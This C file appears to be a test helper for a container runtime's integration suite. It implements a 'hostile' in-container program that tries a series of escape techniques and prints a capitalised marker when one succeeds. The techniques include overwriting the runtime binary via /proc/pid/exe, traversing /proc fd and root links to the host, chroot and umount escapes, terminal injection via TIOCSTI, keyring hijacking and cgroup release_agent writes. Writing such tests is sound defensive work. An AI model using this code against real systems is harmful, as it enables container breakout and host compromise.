/*
 * What a hostile program in a container tries, for tests/integration/test_oci_attack_*.py.
 *
 *	hostile exe COUNT		find processes of the runtime, write to their program
 *	hostile peek ROUNDS PATH	find new processes, look for PATH of the host through them
 *	hostile enter ROUNDS		find new processes that let themselves be looked into
 *	hostile swap A B [A B]...	exchange two names for ever, one pair after the other
 *	hostile calls			one line for each system call that should be refused
 *	hostile inject			put characters into the terminal on stdin, open ours
 *	hostile escape PATH		look for PATH of the host outside of our root, and under it
 *	hostile handles PATH		open_by_handle_at() from PATH to the top of its file system
 *	hostile ring NAME		take a keyring's name and open it to everybody; stay
 *	hostile ids		say as whom it runs, really and effectively
 *	hostile session		say which session keyring this is
 *	hostile joined COMMAND...	with a session keyring, whoever has made it
 *	hostile release		mount a version 1 control group, name a release agent
 *
 * Prints REACHED, WROTE or the like in capitals for what must not happen.  Static: runs anywhere.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PIDS_MAX = 1 << 16 };

static void say(const char *what, const char *where)
{
	printf("%s %s\n", what, where);
	fflush(stdout);
}

/* Calls `visit` for each process but ourselves and init. */
static void each_process(void (*visit)(int pid, const void *data), const void *data)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		int pid = atoi(entry->d_name);

		if (pid > 1 && pid != getpid() && pid != getppid())
			visit(pid, data);
	}
	if (proc)
		closedir(proc);
}

/* ---- exe ---- */

static void write_through(int fd, const char *how)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (time_t end = time(NULL) + 2; time(NULL) <= end;) {
		int out = open(path, O_WRONLY | O_CLOEXEC);

		if (out >= 0) {
			say("WROTE", how);
			(void) !write(out, "x", 1);
			close(out);
			return;
		}
		/* Busy: the process still runs it; later it is free. */
		if (errno != ETXTBSY)
			return;
	}
}

static int attacked;

static void attack_program(int pid, const void *data)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64], target[256];
	ssize_t n;
	int fd, tree;

	(void) data;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = '\0';
	if (strcmp(target, "/bin/busybox") == 0 || strstr(target, "hostile"))
		return;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	say("seen", target);
	attacked++;
	if (mount_setattr(fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		say("CHANGED", "the attributes of its mount");
	write_through(fd, "its program");
	tree = open_tree(fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (tree >= 0) {
		say("CLONED", "the mount of its program");
		(void) mount_setattr(tree, "", AT_EMPTY_PATH, &attr, sizeof(attr));
		write_through(tree, "a clone of its program");
		close(tree);
	}
	close(fd);
}

/* ---- peek ---- */

static void look(int pid, const char *what, const char *marker)
{
	char path[512];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/%s/../../../../../../../..%s", pid, what, marker);
	if (stat(path, &st) == 0)
		say("REACHED", path);
	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, what, marker);
	if (stat(path, &st) == 0)
		say("REACHED", path);
}

static void peek_process(int pid, const void *data)
{
	const char *marker = data;
	char path[64];
	DIR *fds;
	struct dirent *entry;

	look(pid, "cwd", marker);
	look(pid, "root", marker);
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	fds = opendir(path);
	while (fds && (entry = readdir(fds))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "fd/%.16s", entry->d_name);
		look(pid, path, marker);
	}
	if (fds)
		closedir(fds);
}

/* Who may read this link may trace the process, too: of a runtime that is nobody's right. */
static void enter_process(int pid)
{
	char path[64], target[256];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = '\0';
	if (strcmp(target, "/bin/busybox") != 0)
		say("ENTERED", target);
}

/* Only processes that were not there at the beginning. */
static char known[PIDS_MAX];

static void know(int pid, const void *data)
{
	(void) data;
	if (pid < PIDS_MAX)
		known[pid] = 1;
}

static void peek_new(int pid, const void *data)
{
	if (pid >= PIDS_MAX || known[pid])
		return;
	if (data)
		peek_process(pid, data);
	else
		enter_process(pid);
}

/* ---- calls ---- */

struct attempt {
	const char *name;
	long number;
	long args[4];
};

static int child_of_clone(void *data)
{
	(void) data;
	return 0;
}

static void try_calls(void)
{
	static const long high = 1L << 32; /* the kernel looks at the lower half only */
	static char buffer[256], stack[16384];
	const struct attempt list[] = {
		{ "acct", SYS_acct, { 0 } },
		{ "add_key", SYS_add_key, { (long) "user", (long) "n", (long) "v", 1 } },
		{ "bpf", SYS_bpf, { 0, (long) buffer, 64 } },
		{ "clone3", SYS_clone3, { (long) buffer, 64 } },
		{ "fsopen", SYS_fsopen, { (long) "tmpfs", 0 } },
		{ "init_module", SYS_init_module, { (long) buffer, 1, (long) "" } },
		{ "io_uring_setup", SYS_io_uring_setup, { 1, (long) buffer } },
		{ "kcmp", SYS_kcmp, { 1, 1, 0, 0 } },
		{ "kexec_load", SYS_kexec_load, { 0, 0, 0, 0 } },
		{ "keyctl", SYS_keyctl, { KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0 } },
		{ "mount", SYS_mount, { (long) "none", (long) "/tmp", (long) "tmpfs", 0 } },
		{ "open_by_handle_at", SYS_open_by_handle_at, { 3, (long) buffer, 0 } },
		{ "open_tree", SYS_open_tree, { AT_FDCWD, (long) "/", 0 } },
		{ "perf_event_open", SYS_perf_event_open, { (long) buffer, 0, -1, -1 } },
		{ "personality", SYS_personality, { ADDR_NO_RANDOMIZE } },
		{ "pivot_root", SYS_pivot_root, { (long) "/", (long) "/tmp" } },
		{ "process_madvise", SYS_process_madvise, { 0, 0, 0, 0 } },
		{ "quotactl", SYS_quotactl, { 0, 0, 0, 0 } },
		{ "reboot", SYS_reboot, { 0, 0, 0, 0 } },
		{ "request_key", SYS_request_key, { (long) "user", (long) "n", 0, 0 } },
		{ "setns", SYS_setns, { 0, 0 } },
		{ "settimeofday", SYS_settimeofday, { 0, 0 } },
		{ "socket AF_ALG", SYS_socket, { AF_ALG, SOCK_SEQPACKET, 0 } },
		{ "socket AF_ALG+", SYS_socket, { AF_ALG | high, SOCK_SEQPACKET, 0 } },
		{ "socket AF_VSOCK", SYS_socket, { AF_VSOCK, SOCK_STREAM, 0 } },
		{ "socket AF_VSOCK+", SYS_socket, { AF_VSOCK | high, SOCK_STREAM, 0 } },
		{ "swapon", SYS_swapon, { (long) "/tmp", 0 } },
		{ "syslog", SYS_syslog, { 3, (long) buffer, 64 } },
		{ "umount2", SYS_umount2, { (long) "/proc", 0 } },
		{ "unshare", SYS_unshare, { CLONE_NEWUSER } },
		{ "userfaultfd", SYS_userfaultfd, { 1 } },
		{ "vmsplice", SYS_vmsplice, { 0, (long) buffer, 0, 0 } },
	};

	for (size_t i = 0; i < sizeof(list) / sizeof(*list); i++) {
		const long *a = list[i].args;
		long r = syscall(list[i].number, a[0], a[1], a[2], a[3]);

		printf("%s: %s\n", list[i].name, r < 0 ? strerrorname_np(errno) : "ALLOWED");
	}
	printf("clone CLONE_NEWUSER: %s\n",
	       clone(child_of_clone, stack + sizeof(stack), CLONE_NEWUSER | SIGCHLD, NULL) < 0
		       ? strerrorname_np(errno)
		       : "ALLOWED");
}

/* ---- escape ---- */

/* ".." ends at the root only, and after chroot() this folder is not below it. */
static void climb_out(const char *marker)
{
	int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct stat st;

	if ((mkdir("/tmp/below", 0700) < 0 && errno != EEXIST) || top < 0 ||
	    chroot("/tmp/below") < 0 || fchdir(top) < 0) {
		say("chroot", strerrorname_np(errno));
		return;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") == 0 && stat(marker, &st) == 0)
		say("REACHED", "by climbing out");
	say("climbed", "");
}

/* Takes the root away, and joins its own mount namespace again: that leads to what lay under it. */
static void dig_down(const char *marker)
{
	struct stat st;
	int own;

	/* A copy, of everything that is in it: the container itself goes on. */
	if (unshare(CLONE_NEWNS) < 0) {
		say("unshare", strerrorname_np(errno));
		return;
	}
	own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	for (int i = 0; i < 8; i++) {
		if (umount2("/", MNT_DETACH) < 0 || setns(own, CLONE_NEWNS) < 0)
			break;
		if (stat(marker, &st) == 0)
			say("REACHED", "under the root");
	}
	say("dug", strerrorname_np(errno));
}

static void escape(const char *marker)
{
	static void (*const ways[])(const char *) = { climb_out, dig_down };

	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		pid_t pid = fork();

		if (pid == 0) {
			ways[i](marker);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
}

/* ---- the rest ---- */

static void inject(void)
{
	char subcode = 3; /* TIOCLINUX: paste the selection */
	int own = open("/dev/tty", O_RDWR | O_CLOEXEC);

	printf("/dev/tty: %s\n", own >= 0 ? "OPENED" : strerrorname_np(errno));

	printf("TIOCSTI: %s\n", ioctl(0, TIOCSTI, "x") == 0 ? "INJECTED" : strerrorname_np(errno));
	printf("TIOCLINUX: %s\n",
	       ioctl(0, TIOCLINUX, &subcode) == 0 ? "INJECTED" : strerrorname_np(errno));
	printf("TIOCSCTTY: %s\n", ioctl(0, TIOCSCTTY, 1) == 0 ? "STOLEN" : strerrorname_np(errno));
}

static void open_handles(const char *path)
{
	struct {
		struct file_handle head;
		unsigned char space[MAX_HANDLE_SZ];
	} handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, dir = open(path, O_RDONLY | O_CLOEXEC), fd;

	if (name_to_handle_at(dir, "", &handle.head, &mount_id, AT_EMPTY_PATH) < 0) {
		say("name_to_handle_at", strerrorname_np(errno));
		return;
	}
	fd = open_by_handle_at(dir, &handle.head, O_RDONLY);
	say(fd < 0 ? "open_by_handle_at" : "OPENED", fd < 0 ? strerrorname_np(errno) : path);
}

static void take_ring(const char *name)
{
	long ring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name);

	if (ring < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, ring, 0x3f3f3f3f) < 0 ||
	    syscall(SYS_add_key, "user", "bait", "x", 1, ring) < 0) {
		say("keyring", strerrorname_np(errno));
		exit(1);
	}
	printf("taken %ld\n", ring);
	fflush(stdout);
	pause();
}

static void show_session(void)
{
	printf("session %ld\n",
	       syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
}

static void release_agent(void)
{
	static const char *const kinds[] = { "rdma", "memory", "pids", "freezer" };

	if (mkdir("/tmp/cg", 0700) < 0 && errno != EEXIST)
		say("mkdir", strerrorname_np(errno));
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		int fd;

		if (mount("cgroup", "/tmp/cg", "cgroup", 0, kinds[i]) < 0) {
			printf("mount %s: %s\n", kinds[i], strerrorname_np(errno));
			continue;
		}
		fd = open("/tmp/cg/release_agent", O_WRONLY | O_TRUNC);
		if (fd >= 0 && write(fd, "/tmp/agent", 10) == 10)
			say("WROTE", "release_agent");
		else
			printf("release_agent of %s: %s\n", kinds[i], strerrorname_np(errno));
		umount("/tmp/cg");
	}
}

static int swap(char **names)
{
	for (;;)
		for (char **pair = names; pair[0] && pair[1]; pair += 2)
			if (renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE) < 0 &&
			    errno != ENOENT)
				return 1;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";
	int rounds = argc > 2 ? atoi(argv[2]) : 0;

	if (strcmp(verb, "exe") == 0) {
		while (attacked < rounds)
			each_process(attack_program, NULL);
	} else if (strcmp(verb, "peek") == 0 && argc == 4) {
		each_process(know, NULL);
		say("ready", "");
		for (int i = 0; i < rounds; i++)
			each_process(peek_new, argv[3]);
	} else if (strcmp(verb, "enter") == 0) {
		each_process(know, NULL);
		say("ready", "");
		for (int i = 0; i < rounds; i++)
			each_process(peek_new, NULL);
	} else if (strcmp(verb, "escape") == 0 && argc == 3) {
		escape(argv[2]);
	} else if (strcmp(verb, "swap") == 0 && argc >= 4) {
		return swap(argv + 2);
	} else if (strcmp(verb, "calls") == 0) {
		try_calls();
	} else if (strcmp(verb, "inject") == 0) {
		inject();
	} else if (strcmp(verb, "handles") == 0 && argc == 3) {
		open_handles(argv[2]);
	} else if (strcmp(verb, "ring") == 0 && argc == 3) {
		take_ring(argv[2]);
	} else if (strcmp(verb, "ids") == 0) {
		printf("%d %d\n", (int) getuid(), (int) geteuid());
	} else if (strcmp(verb, "session") == 0) {
		show_session();
	} else if (strcmp(verb, "joined") == 0 && argc > 2) {
		(void) syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
		execv(argv[2], argv + 2);
		return 127;
	} else if (strcmp(verb, "release") == 0) {
		release_agent();
	} else {
		return 2;
	}
	return 0;
}
